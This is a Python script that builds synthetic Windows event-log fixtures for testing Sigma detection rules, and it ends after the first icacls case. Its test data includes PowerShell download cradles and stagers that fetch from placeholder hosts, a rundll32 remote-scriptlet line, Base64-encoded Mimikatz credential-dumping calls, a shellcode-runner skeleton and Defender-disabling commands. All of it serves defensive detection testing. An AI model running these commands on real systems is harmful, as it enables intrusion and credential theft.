# Writes ../windows-sample.jsonl and ../expected-matches.tsv (run: python3 corpus/tools/make_corpus.py).
# Every event below was designed by hand for one shipped rule (a match or a near miss); the
# expected rule set of each event (the add(...) third argument) was derived by hand from
# docs/sigma-semantics.md, across ALL shipped rules. Nothing here is copied from ../shared.
# Base64 / UTF-16 blobs are computed, not typed. Output is deterministic.
import json, uuid, hashlib, base64, os

def enc(v, e):
    if e == 'utf8': return v.encode()
    if e == 'utf16le': return v.encode('utf-16-le')
    if e == 'utf16be': return v.encode('utf-16-be')
    raise ValueError(e)

def b64(b): return base64.b64encode(b).decode()

RULES = {
 'seed': '8e5e38e4-5350-4c0b-895a-e872ce0dd54f',
 'ps_enc_windash': '00ce7e0f-785e-435b-bfe2-d732cf5d4619',
 'ps_cradle_wide': '5be64b7e-0efb-4e65-8d2e-ef1d4abee343',
 'mimikatz_utf16': 'f74833dc-5664-453e-a9c8-20397e647785',
 'reg_b64': 'c505b120-347d-48cf-a6c6-e5579b4d3eee',
 'ti_cidr': 'ff2cee77-9f00-4e8e-9d68-67f6fce2883b',
 'script_port': 'eaf96a95-3cdd-48e2-aebf-f7816cf2e4a6',
 'dyndns': '77712263-01bd-44f1-85ef-8cb5379dfa3d',
 'defender_re_m': 'c3646f2d-6174-47a0-b075-7d53e424cb6a',
 'shellcode_re_s': 'c953509b-8f9b-44a5-8685-b05d14b08cbe',
 'large_block': '6b382c92-cd01-48e2-ba91-e3ae5c10b79c',
 'offhours': 'e2fc569e-0250-4d8d-a810-c5eb6cb698db',
 'rundll32_js': 'c6e4146e-ee37-44ed-a191-04050ad6eca4',
 'icacls_star': '15200603-ad17-4d13-a6fd-38a6bd111ae4',
 'pe_b64_cased': '06ca3693-bdfd-46a6-9072-daa741fdddcc',
 'certutil': '0eec3680-a14f-4cf3-ba7b-ac6583040555',
 'self_spawn': '4d006d4d-32da-4d16-9917-373956aa09c4',
 'netonly': '9a568a30-47bd-4a17-99eb-f5d26ccd1d79',
 'ntlm_key': '8e2cb35f-89f1-4dfd-9e30-ea4901e3de14',
 'rdp_dc': '01110fea-854d-4f56-bc58-d34203d6df66',
 'driver_kw': 'f865da0e-0d19-4e6f-b36e-1d61f36e59d9',
 'defender_kw_all': '5219995d-ec14-4071-8260-effac7d1d053',
 'lsass_dll': 'f13338db-d1fc-4762-87ff-f49f18da01f1',
 'startup_re': '18a1fd41-9de0-453a-8609-70fc35197d59',
 'revshell_b64': 'a451e1ef-27d6-4ca1-83bc-06d01889abbf',
}

SYSMON = 'Microsoft-Windows-Sysmon/Operational'
PSOP = 'Microsoft-Windows-PowerShell/Operational'
events = []   # (event, rule_under_test, outcome, expected_set, why)
recno = {}

def guid(seed):
    return '{' + str(uuid.uuid5(uuid.NAMESPACE_URL, 'sigmatch-corpus/' + seed)) + '}'

def sha(seed):
    h = hashlib.sha256(seed.encode()).hexdigest().upper()
    m = hashlib.md5(seed.encode()).hexdigest().upper()
    return 'MD5=%s,SHA256=%s' % (m, h)

def header(eid, channel, provider, computer, utc):
    # utc: 'YYYY-MM-DD HH:MM:SS.mmm' ; TimeCreated slightly after
    t = utc.replace(' ', 'T') + '4521Z'
    recno[channel] = recno.get(channel, 100000) + 17
    return {'EventID': eid, 'Channel': channel, 'Provider_Name': provider,
            'Computer': computer, 'TimeCreated': t, 'EventRecordID': recno[channel]}

def add(ev, rule, outcome, expected, why):
    events.append((ev, rule, outcome, set(expected), why))

def proc(utc, image, cmd, parent, parent_cmd, user='CORP\\bob', computer='WS01.corp.example',
         ofn=None, desc='', product='', company='', version='', cwd='C:\\Users\\bob\\', integrity='Medium',
         eid=1, drop=(), extra=None):
    e = header(eid, SYSMON, 'Microsoft-Windows-Sysmon', computer, utc)
    tag = image + cmd + utc
    f = {'RuleName': '-', 'UtcTime': utc, 'ProcessGuid': guid(tag), 'ProcessId': str(1000 + len(events) * 4),
         'Image': image, 'FileVersion': version, 'Description': desc, 'Product': product, 'Company': company,
         'OriginalFileName': ofn if ofn is not None else image.split('\\')[-1],
         'CommandLine': cmd, 'CurrentDirectory': cwd, 'User': user,
         'LogonGuid': guid('logon' + user), 'LogonId': '0x3b5e64', 'TerminalSessionId': '1',
         'IntegrityLevel': integrity, 'Hashes': sha(image),
         'ParentProcessGuid': guid(parent + 'p'), 'ParentProcessId': str(700 + len(events) * 4),
         'ParentImage': parent, 'ParentCommandLine': parent_cmd, 'ParentUser': user}
    if extra: f.update(extra)
    for d in drop: f.pop(d, None)
    e.update(f)
    return e

def net(utc, image, dst_ip, dst_port, initiated='true', proto='tcp', user='CORP\\bob', computer='WS01.corp.example',
        src_ip='10.10.4.21', src_port='50123', dst_host='', eid=3, port_name=''):
    e = header(eid, SYSMON, 'Microsoft-Windows-Sysmon', computer, utc)
    v6 = ':' in dst_ip
    if v6 and ':' not in src_ip: src_ip = 'fd00:10:10:4::21'
    e.update({'RuleName': '-', 'UtcTime': utc, 'ProcessGuid': guid(image + utc), 'ProcessId': str(2000 + len(events) * 4),
              'Image': image, 'User': user, 'Protocol': proto, 'Initiated': initiated,
              'SourceIsIpv6': 'true' if v6 else 'false', 'SourceIp': src_ip, 'SourceHostname': computer,
              'SourcePort': src_port, 'SourcePortName': '', 'DestinationIsIpv6': 'true' if v6 else 'false',
              'DestinationIp': dst_ip, 'DestinationHostname': dst_host, 'DestinationPort': dst_port,
              'DestinationPortName': port_name})
    return e

def ps4104(utc, text, total='1', number='1', path='', computer='WS01.corp.example', drop_path=False, user_sid='S-1-5-21-3623811015-3361044348-30300820-1104'):
    e = header(4104, PSOP, 'Microsoft-Windows-PowerShell', computer, utc)
    f = {'MessageNumber': number, 'MessageTotal': total, 'ScriptBlockText': text,
         'ScriptBlockId': guid(text[:40] + utc)[1:-1], 'Path': path}
    if drop_path: del f['Path']
    e.update(f)
    return e

def ps4103(utc, context, payload, computer='WS01.corp.example'):
    e = header(4103, PSOP, 'Microsoft-Windows-PowerShell', computer, utc)
    e.update({'ContextInfo': context, 'UserData': '', 'Payload': payload})
    return e

def logon(utc, computer, ltype, user, pkg, key, lproc, outbound=None, ip='10.10.4.21', ws='WS01',
          domain='CORP', lm='-', drop_outbound=False, eid=4624):
    e = header(eid, 'Security', 'Microsoft-Windows-Security-Auditing', computer, utc)
    f = {'SubjectUserSid': 'S-1-0-0', 'SubjectUserName': '-', 'SubjectDomainName': '-', 'SubjectLogonId': '0x0',
         'TargetUserSid': 'S-1-5-21-3623811015-3361044348-30300820-1%03d' % (len(user) * 7 % 1000),
         'TargetUserName': user, 'TargetDomainName': domain, 'TargetLogonId': '0x%x' % (0x5a1f00 + len(events) * 0x31),
         'LogonType': ltype, 'LogonProcessName': lproc, 'AuthenticationPackageName': pkg,
         'WorkstationName': ws, 'LogonGuid': '{00000000-0000-0000-0000-000000000000}',
         'TransmittedServices': '-', 'LmPackageName': lm, 'KeyLength': key,
         'ProcessId': '0x0', 'ProcessName': '-', 'IpAddress': ip, 'IpPort': '0',
         'ImpersonationLevel': '%%1833', 'RestrictedAdminMode': '-',
         'TargetOutboundUserName': outbound if outbound is not None else '-',
         'TargetOutboundDomainName': domain if outbound is not None else '-',
         'VirtualAccount': '%%1843', 'TargetLinkedLogonId': '0x0', 'ElevatedToken': '%%1843'}
    if ltype == '9':
        f.update({'SubjectUserSid': 'S-1-5-21-3623811015-3361044348-30300820-1104', 'SubjectUserName': user,
                  'SubjectDomainName': domain, 'SubjectLogonId': '0x3b5e64', 'ProcessId': '0x1a2c',
                  'ProcessName': 'C:\\Windows\\System32\\svchost.exe', 'IpAddress': '::1', 'IpPort': '0',
                  'WorkstationName': '-', 'LogonGuid': guid('lg' + utc)})
    if ltype == '10':
        f.update({'ProcessId': '0x2f0', 'ProcessName': 'C:\\Windows\\System32\\svchost.exe', 'IpPort': '0'})
    if drop_outbound:
        for k in ('TargetOutboundUserName', 'TargetOutboundDomainName', 'VirtualAccount', 'TargetLinkedLogonId',
                  'ElevatedToken', 'RestrictedAdminMode'):
            f.pop(k)
    e.update(f)
    return e

def svc7045(utc, name, path, stype='kernel mode driver', start='demand start', account='', computer='WS01.corp.example'):
    e = header(7045, 'System', 'Service Control Manager', computer, utc)
    e.update({'ServiceName': name, 'ImagePath': path, 'ServiceType': stype, 'StartType': start, 'AccountName': account})
    return e

def imgload(utc, image, loaded, signed=None, signature='', status='', desc='', ofn='', company='', drop_sig=False):
    e = header(7, SYSMON, 'Microsoft-Windows-Sysmon', 'WS01.corp.example', utc)
    f = {'RuleName': '-', 'UtcTime': utc, 'ProcessGuid': guid(image), 'ProcessId': '812', 'Image': image,
         'ImageLoaded': loaded, 'FileVersion': '-', 'Description': desc or '-', 'Product': '-', 'Company': company or '-',
         'OriginalFileName': ofn or '-', 'Hashes': sha(loaded), 'Signed': signed, 'Signature': signature,
         'SignatureStatus': status, 'User': 'NT AUTHORITY\\SYSTEM'}
    if drop_sig:
        for k in ('Signed', 'Signature', 'SignatureStatus'): f.pop(k)
    e.update(f)
    return e

def fileev(utc, image, target, user='CORP\\bob'):
    e = header(11, SYSMON, 'Microsoft-Windows-Sysmon', 'WS01.corp.example', utc)
    e.update({'RuleName': '-', 'UtcTime': utc, 'ProcessGuid': guid(image + utc), 'ProcessId': '6120', 'Image': image,
              'TargetFilename': target, 'CreationUtcTime': utc, 'User': user})
    return e

def regset(utc, image, target, details, user='CORP\\bob'):
    e = header(13, SYSMON, 'Microsoft-Windows-Sysmon', 'WS01.corp.example', utc)
    e.update({'RuleName': '-', 'EventType': 'SetValue', 'UtcTime': utc, 'ProcessGuid': guid(image + utc),
              'ProcessId': '5532', 'Image': image, 'TargetObject': target, 'Details': details, 'User': user})
    return e

def dns(utc, image, name, status='0', results='', user='CORP\\bob'):
    e = header(22, SYSMON, 'Microsoft-Windows-Sysmon', 'WS01.corp.example', utc)
    e.update({'RuleName': '-', 'UtcTime': utc, 'ProcessGuid': guid(image + utc), 'ProcessId': '4410',
              'QueryName': name, 'QueryStatus': status, 'QueryResults': results, 'Image': image, 'User': user})
    return e

PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
PWSH = 'C:\\Program Files\\PowerShell\\7\\pwsh.exe'
CMD = 'C:\\Windows\\System32\\cmd.exe'
EXPLORER = 'C:\\Windows\\explorer.exe'
PSDESC = dict(desc='Windows PowerShell', product='Microsoft® Windows® Operating System', company='Microsoft Corporation', version='10.0.19041.3996 (WinBuild.160101.0800)')
def wideb64(s): return b64(enc(s, 'utf16le'))

# ---------------------------------------------------------------- seed: msiexec network connection
MSI = 'C:\\Windows\\System32\\msiexec.exe'
add(net('2024-05-02 09:12:44.310', MSI, '198.51.100.20', '443', user='NT AUTHORITY\\SYSTEM', port_name='https'),
    'seed', 'match', ['seed'], 'msiexec.exe, Initiated "true", DestinationPort "443" (string) equals YAML integer 443')
add(net('2024-05-02 09:13:02.771', 'C:\\Windows\\SysWOW64\\MsiExec.exe', '198.51.100.21', '80', user='NT AUTHORITY\\SYSTEM', port_name='http'),
    'seed', 'match', ['seed'], 'endswith is case-insensitive (\\MsiExec.exe); port "80" is in the value list')
add(net('2024-05-02 09:14:10.005', MSI, '198.51.100.20', '8443', user='NT AUTHORITY\\SYSTEM'),
    'seed', 'near miss', [], 'port "8443": numbers never match by substring, 8443 is neither 80 nor 443')
add(net('2024-05-02 09:15:31.448', MSI, '198.51.100.20', '443', initiated='false', user='NT AUTHORITY\\SYSTEM'),
    'seed', 'near miss', [], 'Initiated "false"')
add(net('2024-05-02 09:16:05.112', 'C:\\Windows\\System32\\msiexecx.exe', '198.51.100.20', '443', user='NT AUTHORITY\\SYSTEM'),
    'seed', 'near miss', [], 'Image ends with msiexecx.exe, not \\msiexec.exe')
add(net('2024-05-02 09:17:45.900', MSI, '198.51.100.20', '443', user='NT AUTHORITY\\SYSTEM', eid=1),
    'seed', 'near miss', [], 'same fields as line 0 but EventID 1: routed to process_creation, not network_connection; no process_creation rule matches (no CommandLine, no ParentImage)')

# ---------------------------------------------------------------- ps_enc_windash
add(proc('2024-05-02 10:01:12.501', PS, '"%s" -NoProfile -WindowStyle Hidden /enc %s' % (PS, wideb64('Start-Sleep -Seconds 5; Get-Service | Out-File C:\\Users\\Public\\svc.txt')),
         EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='PowerShell.EXE', **PSDESC),
    'ps_enc_windash', 'match', ['ps_enc_windash'], 'powershell.exe with " /enc " (slash spelling generated by windash)')
add(proc('2024-05-02 10:02:40.030', PWSH, 'pwsh.exe -NoLogo \u2013enc %s' % wideb64('Get-ChildItem $env:TEMP | Remove-Item -Force'),
         CMD, 'cmd.exe /c run.cmd', ofn='pwsh.dll', desc='pwsh', product='PowerShell', company='Microsoft Corporation', version='7.4.1.500'),
    'ps_enc_windash', 'match', ['ps_enc_windash'], 'pwsh.exe with U+2013 en dash before "enc" (windash variant)')
add(proc('2024-05-02 10:03:55.777', 'C:\\Users\\Public\\svc.exe', 'svc.exe -e %s' % wideb64('Get-Date | Out-File C:\\Users\\Public\\t.txt'),
         CMD, 'cmd.exe /c C:\\Users\\Public\\start.cmd', ofn='PowerShell.EXE', **PSDESC),
    'ps_enc_windash', 'match', ['ps_enc_windash'], 'renamed PowerShell: Image does not end in powershell.exe but OriginalFileName is PowerShell.EXE (second map of the list)')
add(proc('2024-05-02 10:05:21.640', PS, '"%s" -NoProfile -File C:\\Scripts\\report.ps1 -Encoding UTF8' % PS,
         EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='PowerShell.EXE', **PSDESC),
    'ps_enc_windash', 'near miss', [], '" -Encoding " is none of " -e ", " -en ", " -enc ", " -encodedcommand "')
add(proc('2024-05-02 10:06:47.118', CMD, 'cmd.exe /c findstr /i " /enc " C:\\Logs\\audit.txt',
         EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='Cmd.Exe', desc='Windows Command Processor', product='Microsoft® Windows® Operating System', company='Microsoft Corporation'),
    'ps_enc_windash', 'near miss', [], 'command line contains " /enc " but the image is cmd.exe (all of selection_* needs selection_img)')
add(proc('2024-05-02 10:07:13.902', PS, 'powershell.exe -ExecutionPolicy Bypass -enc',
         CMD, 'cmd.exe', ofn='PowerShell.EXE', **PSDESC),
    'ps_enc_windash', 'near miss', [], '"-enc" at the very end: the value " -enc " needs a trailing space')

# ---------------------------------------------------------------- ps_cradle_wide
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"
add(proc('2024-05-02 11:20:05.250', PS, 'powershell.exe -NoP -W Hidden -ec %s' % wideb64(CRADLE),
         'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\bob\\Downloads\\invoice.docm"', ofn='PowerShell.EXE', **PSDESC),
    'ps_cradle_wide', 'match', ['ps_cradle_wide'], 'UTF-16LE Base64 of a script containing DownloadString( (wide|base64offset); "-ec" is not in the windash rule\'s list')
add(proc('2024-05-02 11:21:40.880', PWSH, 'pwsh.exe -EncodedCommand %s' % wideb64('Invoke-Expression (Get-Content C:\\Users\\Public\\cfg.txt -Raw)'),
         CMD, 'cmd.exe /c C:\\Users\\Public\\go.cmd', ofn='pwsh.dll', desc='pwsh', product='PowerShell', company='Microsoft Corporation', version='7.4.1.500'),
    'ps_cradle_wide', 'match', ['ps_cradle_wide', 'ps_enc_windash'], 'UTF-16LE Base64 of "Invoke-Expression ..." (utf16le|base64offset); also " -EncodedCommand " for the windash rule')
add(proc('2024-05-02 11:22:18.414', PS, 'powershell.exe -NoP -W Hidden -c "%s"' % CRADLE,
         'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'WINWORD.EXE', ofn='PowerShell.EXE', **PSDESC),
    'ps_cradle_wide', 'near miss', [], 'same cradle in clear text: no Base64 at all')
add(proc('2024-05-02 11:23:09.008', CMD, 'cmd.exe /c powershell -NoP -W Hidden -ec %s' % wideb64(CRADLE),
         'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'WINWORD.EXE', ofn='Cmd.Exe', desc='Windows Command Processor'),
    'ps_cradle_wide', 'near miss', [], 'the encoded cradle is present but the Image is cmd.exe (identifier "process" is false)')
add(proc('2024-05-02 11:24:33.561', PS, 'powershell.exe -NoP -W Hidden -ec %s' % b64(CRADLE.encode()),
         'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'WINWORD.EXE', ofn='PowerShell.EXE', **PSDESC),
    'ps_cradle_wide', 'near miss', [], 'cradle encoded as UTF-8 instead of UTF-16LE: none of the wide fragments occurs')

# ---------------------------------------------------------------- mimikatz_utf16 (ps_script 4104)
BE = b64(enc('Invoke-Mimikatz -Command privilege::debug', 'utf16be'))
add(ps4104('2024-05-02 12:00:01.101', "$p = [Text.Encoding]::BigEndianUnicode.GetString([Convert]::FromBase64String('%s'))\niex $p" % BE),
    'mimikatz_utf16', 'match', ['mimikatz_utf16'], 'Base64 of UTF-16BE "Invoke-Mimikatz ..." (utf16be|base64offset, offset 0)')
BOMB = b64(b'\xff\xfe' + enc('Invoke-Mimikatz -DumpCreds', 'utf16le'))
add(ps4104('2024-05-02 12:01:12.202', "$s = [Convert]::FromBase64String('%s')\n$c = [Text.Encoding]::Unicode.GetString($s)\n& ([scriptblock]::Create($c))" % BOMB),
    'mimikatz_utf16', 'match', ['mimikatz_utf16'], 'Base64 of FF FE + UTF-16LE "Invoke-Mimikatz ..." (utf16 = BOM FF FE, spec / D12)')
UTF8BOM = b64(b'\xef\xbb\xbf' + enc('Invoke-Mimikatz -DumpCreds', 'utf16le'))
add(ps4104('2024-05-02 12:02:30.303', "$s = [Convert]::FromBase64String('%s')\n$c = [Text.Encoding]::Unicode.GetString($s)" % UTF8BOM),
    'mimikatz_utf16', 'near miss', [], 'UTF-8 BOM EF BB BF + UTF-16LE (what pySigma generates for utf16): not the FF FE BOM the spec defines, and not big-endian')
LE = wideb64('Invoke-Mimikatz -DumpCreds')
add(ps4104('2024-05-02 12:03:44.404', "$s = [Convert]::FromBase64String('%s')\n$c = [Text.Encoding]::Unicode.GetString($s)" % LE),
    'mimikatz_utf16', 'near miss', [], 'plain UTF-16LE without BOM: neither the utf16be nor the BOM-prefixed fragments occur')

# ---------------------------------------------------------------- reg_b64 (registry_set 13)
REGK = 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Classes\\CLSID\\{8c6f2d1e-3b4a-4f5e-9d7c-1a2b3c4d5e6f}\\Cache'
LOADER = "Add-Type -TypeDefinition @'\nusing System; public class K { public static void Run() { } }\n'@; [K]::Run()"
add(regset('2024-05-02 13:10:10.010', PS, REGK, b64(LOADER.encode())),
    'reg_b64', 'match', ['reg_b64'], 'Details is the Base64 of a script that starts with "Add-Type -TypeDefinition" (base64|contains, 24 bytes, no padding)')
STAGER = 'IEX(IWR http://203.0.113.7/a.ps1 -UseBasicParsing)'
add(regset('2024-05-02 13:11:20.020', PS, REGK.replace('Cache', 'Data'), b64(STAGER.encode())),
    'reg_b64', 'match', ['reg_b64'], 'Details equals the Base64 of the known stager exactly (base64, with "=" padding)')
add(regset('2024-05-02 13:12:30.030', PS, REGK, b64((' ' + LOADER).encode())),
    'reg_b64', 'near miss', [], 'same loader with one leading space: the text is at byte offset 1, and base64 (unlike base64offset) only matches offset 0')
add(regset('2024-05-02 13:13:40.040', PS, REGK.replace('Cache', 'Data'), b64(STAGER.encode()).rstrip('=')),
    'reg_b64', 'near miss', [], 'stager encoding with the trailing "=" padding removed: no longer equal')

# ---------------------------------------------------------------- ti_cidr (network 3)
add(net('2024-05-02 14:00:00.100', 'C:\\Users\\Public\\Libraries\\svchost.exe', '203.0.113.45', '443', port_name='https'),
    'ti_cidr', 'match', ['ti_cidr'], '203.0.113.45 is in 203.0.113.0/24')
add(net('2024-05-02 14:01:00.200', 'C:\\ProgramData\\Updater\\upd.exe', '2001:db8:bad:12::5', '8080'),
    'ti_cidr', 'match', ['ti_cidr'], '2001:db8:bad:12::5 is in 2001:db8:bad::/48')
add(net('2024-05-02 14:02:00.300', 'C:\\Users\\Public\\Libraries\\svchost.exe', '203.0.114.1', '443', port_name='https'),
    'ti_cidr', 'near miss', [], '203.0.114.1 is just outside 203.0.113.0/24')
add(net('2024-05-02 14:03:00.400', 'C:\\ProgramData\\Updater\\upd.exe', '2001:db8:bae::5', '8080'),
    'ti_cidr', 'near miss', [], '2001:db8:bae::5 is just outside 2001:db8:bad::/48')
add(net('2024-05-02 14:04:00.500', 'C:\\Program Files\\Zscaler\\ZSATunnel\\ZSATunnel.exe', '203.0.113.10', '443', user='NT AUTHORITY\\SYSTEM', port_name='https'),
    'ti_cidr', 'near miss', [], 'inside the range but made by the proxy client (filter_main_proxy_client, startswith)')

# ---------------------------------------------------------------- script_port (network 3)
add(net('2024-05-02 15:00:00.111', 'C:\\Windows\\System32\\wscript.exe', '198.51.100.23', '4444'),
    'script_port', 'match', ['script_port'], 'wscript.exe to port 4444 (1024 <= 4444 <= 49151)')
add(net('2024-05-02 15:01:00.222', 'C:\\Windows\\SysWOW64\\mshta.exe', '198.51.100.23', '1024'),
    'script_port', 'match', ['script_port'], 'port 1024 is the lower bound (gte)')
add(net('2024-05-02 15:02:00.333', 'C:\\Windows\\System32\\cscript.exe', '198.51.100.23', '1023'),
    'script_port', 'near miss', [], 'port 1023 is just below gte 1024')
add(net('2024-05-02 15:03:00.444', 'C:\\Windows\\System32\\wscript.exe', '198.51.100.23', '49152'),
    'script_port', 'near miss', [], 'port 49152 is just above lte 49151')

# ---------------------------------------------------------------- dyndns (dns 22)
AGENT = 'C:\\Users\\bob\\AppData\\Roaming\\svc\\agent.exe'
add(dns('2024-05-02 16:00:00.010', AGENT, 'c2node.duckdns.org', results='::ffff:198.51.100.77;'),
    'dyndns', 'match', ['dyndns'], 'duckdns.org host, QueryStatus "0" equals YAML integer 0')
add(dns('2024-05-02 16:01:00.020', PS, 'UPDATE-CHECK.DDNS.NET', results='::ffff:198.51.100.78;'),
    'dyndns', 'match', ['dyndns'], 'upper-case name: re|i is case-insensitive')
add(dns('2024-05-02 16:02:00.030', AGENT, 'notduckdns.org', results='::ffff:198.51.100.79;'),
    'dyndns', 'near miss', [], 'no dot before "duckdns": the regex needs "\\.duckdns\\.org$"')
add(dns('2024-05-02 16:03:00.040', AGENT, 'duckdns.org.cdn.example.com', results='::ffff:198.51.100.80;'),
    'dyndns', 'near miss', [], 'provider name not at the end ($ anchor)')
add(dns('2024-05-02 16:04:00.050', AGENT, 'c2node.duckdns.org', status='9003', results=''),
    'dyndns', 'near miss', [], 'QueryStatus 9003 (name does not exist) is not 0')
add(dns('2024-05-02 16:05:00.060', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'myhome.hopto.org', results='::ffff:198.51.100.81;'),
    'dyndns', 'near miss', [], 'browser: _filter_browsers is excluded from "all of them" but used explicitly with "and not"')

# ---------------------------------------------------------------- defender_re_m (4104)
add(ps4104('2024-05-02 17:00:00.100', "function Set-Up {\n    Add-MpPreference -ExclusionPath 'C:\\Users\\Public'\n}\nSet-Up"),
    'defender_re_m', 'match', ['defender_re_m'], 'indented line 2 starts with Add-MpPreference -ExclusionPath; ^ needs multiline (condition list, first entry)')
add(ps4104('2024-05-02 17:01:00.200', "$ErrorActionPreference = 'SilentlyContinue'\nSet-MpPreference -DisableRealtimeMonitoring $true"),
    'defender_re_m', 'match', ['defender_re_m', 'defender_kw_all'], 'line 2 starts with Set-MpPreference -DisableRealtimeMonitoring (second condition of the list); the keyword rule for service powershell also matches (both keywords present)')
add(ps4104('2024-05-02 17:02:00.300', "# Add-MpPreference -ExclusionPath C:\\Temp\nWrite-Host 'exclusions are managed by GPO'"),
    'defender_re_m', 'near miss', [], 'the cmdlet only appears in a comment: "#" is not whitespace before it')
add(ps4104('2024-05-02 17:03:00.400', "add-mppreference -exclusionpath C:\\Temp"),
    'defender_re_m', 'near miss', [], 'lower-case cmdlet: re without i is case-sensitive')

# ---------------------------------------------------------------- shellcode_re_s (4104)
RUNNER = ('$code = @"\n[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n'
          '[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n"@\n'
          '$w = Add-Type -MemberDefinition $code -Name W -PassThru\n$m = $w::VirtualAlloc(0, 0x1000, 0x3000, 0x40)\n$t = $w::CreateThread(0, 0, $m, 0, 0, 0)')
add(ps4104('2024-05-02 18:00:00.100', RUNNER),
    'shellcode_re_s', 'match', ['shellcode_re_s'], 'DllImport present; "VirtualAlloc(" and a later "CreateThread(" on another line: needs the s (dotall) flag')
add(ps4104('2024-05-02 18:01:00.200', RUNNER.replace('CreateThread', 'CreateRemoteThread')),
    'shellcode_re_s', 'near miss', [], '"CreateRemoteThread(" is not "CreateThread("')
add(ps4104('2024-05-02 18:02:00.300', "$watch = @('VirtualAlloc(', 'CreateThread(')\nGet-WinEvent -FilterHashtable @{LogName='Microsoft-Windows-PowerShell/Operational'; Id=4104} | Where-Object { $_.Message -match ($watch -join '|') }"),
    'shellcode_re_s', 'near miss', [], 'the API names appear in order but there is no DllImport / GetDelegateForFunctionPointer (selection_interop false)')

# ---------------------------------------------------------------- large_block (4104)
PART = "# Part 1 of an in-memory module\n$d = 'H4sIAAAAAAAEAO29B2AcSZYlJi9tynt/SvVK1+B0ZQgAAAAA'\nfunction Get-Part { param($n) $d.Substring($n * 64, 64) }"
add(ps4104('2024-05-02 19:00:00.100', PART, total='35', number='1', path=''),
    'large_block', 'match', ['large_block'], 'MessageNumber "1" equals 1, MessageTotal "35" > 20, Path "" equals \'\'')
add(ps4104('2024-05-02 19:01:00.200', PART, total='21', number='1', drop_path=True),
    'large_block', 'match', ['large_block'], 'MessageTotal 21 > 20; Path field missing: matches "Path: null"')
add(ps4104('2024-05-02 19:02:00.300', PART, total='20', number='1', path=''),
    'large_block', 'near miss', [], 'MessageTotal 20 is not > 20')
add(ps4104('2024-05-02 19:03:00.400', PART, total='35', number='1', path='C:\\Program Files\\Contoso\\deploy.ps1'),
    'large_block', 'near miss', [], 'script read from a file: Path is neither empty nor missing')
add(ps4104('2024-05-02 19:04:00.500', PART, total='35', number='2', path=''),
    'large_block', 'near miss', [], 'MessageNumber 2, not the first part')

# ---------------------------------------------------------------- offhours (process_creation)
WHOAMI = 'C:\\Windows\\System32\\whoami.exe'
NLTEST = 'C:\\Windows\\System32\\nltest.exe'
add(proc('2024-05-02 23:15:00.123', WHOAMI, 'whoami.exe /all', CMD, 'cmd.exe', ofn='whoami.exe', desc='whoami - displays logged on user information'),
    'offhours', 'match', ['offhours'], 'whoami at 23:15 UTC (hour 23 >= 22)')
add(proc('2024-05-03 04:59:59.999', NLTEST, 'nltest.exe /dclist:corp.example', CMD, 'cmd.exe', ofn='nltestrk.exe', desc='Microsoft® Logon Server Test Utility'),
    'offhours', 'match', ['offhours'], 'nltest at 04:59:59.999 (hour 4 < 5)')
add(proc('2024-05-02 21:59:59.999', WHOAMI, 'whoami.exe /all', CMD, 'cmd.exe', ofn='whoami.exe', desc='whoami - displays logged on user information'),
    'offhours', 'near miss', [], 'hour 21: not >= 22 and not < 5')
add(proc('2024-05-03 05:00:00.000', NLTEST, 'nltest.exe /dclist:corp.example', CMD, 'cmd.exe', ofn='nltestrk.exe', desc='Microsoft® Logon Server Test Utility'),
    'offhours', 'near miss', [], 'hour 5: not < 5')
add(proc('2024-05-02 23:30:00.000', 'C:\\Windows\\System32\\tasklist.exe', 'tasklist.exe /v', CMD, 'cmd.exe', ofn='tasklist.exe'),
    'offhours', 'near miss', [], 'night time but tasklist.exe is not one of the tools')

# ---------------------------------------------------------------- rundll32_js (process_creation)
JS = 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.7/x.sct")'
add(proc('2024-05-03 08:00:00.100', 'C:\\Windows\\SysWOW64\\rundll32.exe', JS, EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='RUNDLL32.EXE'),
    'rundll32_js', 'match', ['rundll32_js'], 'SysWOW64 matches Sys?????; "javascript:" ... "RunHTMLApplication" with * between')
add(proc('2024-05-03 08:01:00.200', 'C:\\Windows\\System32\\rundll32.exe', JS.replace('203.0.113.7/x', '203.0.113.7/y'), EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='RUNDLL32.EXE'),
    'rundll32_js', 'match', ['rundll32_js'], 'System32 also has exactly five characters after "Sys"')
add(proc('2024-05-03 08:02:00.300', 'C:\\Windows\\System\\rundll32.exe', JS, EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='RUNDLL32.EXE'),
    'rundll32_js', 'near miss', [], '"System" has only three characters after "Sys": ? needs exactly one character each')
add(proc('2024-05-03 08:03:00.400', 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl', EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='RUNDLL32.EXE'),
    'rundll32_js', 'near miss', [], 'right image, but no javascript:/RunHTMLApplication')

# ---------------------------------------------------------------- icacls_star
ICACLS = 'C:\\Windows\\System32\\icacls.exe'
add(proc('2024-05-03 09:00:00.100', ICACLS, 'icacls * /grant Everyone:F /T /C /Q', CMD, 'cmd.exe /c C:\\Users\\Public\\prep.bat', ofn='iCACLS.EXE', cwd='C:\\Shares\\'),
    'icacls_star', 'match', ['icacls_star'], 'contains the literal " * /grant Everyone:" (\\* is an escaped star)')
